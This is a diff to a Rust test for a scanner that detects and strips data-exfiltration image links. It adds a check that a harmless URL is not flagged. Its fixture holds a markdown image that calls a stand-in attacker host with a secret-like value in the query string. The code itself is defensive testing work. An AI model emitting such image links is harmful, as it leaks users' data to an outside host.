@@ -69,6 +69,7 @@ fn what_is_removed_names_the_host_and_not_what_it_carries() {
     let text = "Before ![track](https://evil.example/p.gif?d=hunter2) after";
     let found = look(text);
     assert_eq!(neutralised(text, &found), "Before [image removed: evil.example] after");
+    assert_eq!(scan::exfiltration::leaving("https://ok.example/?q=a"), []);
 }
 
 #[test]
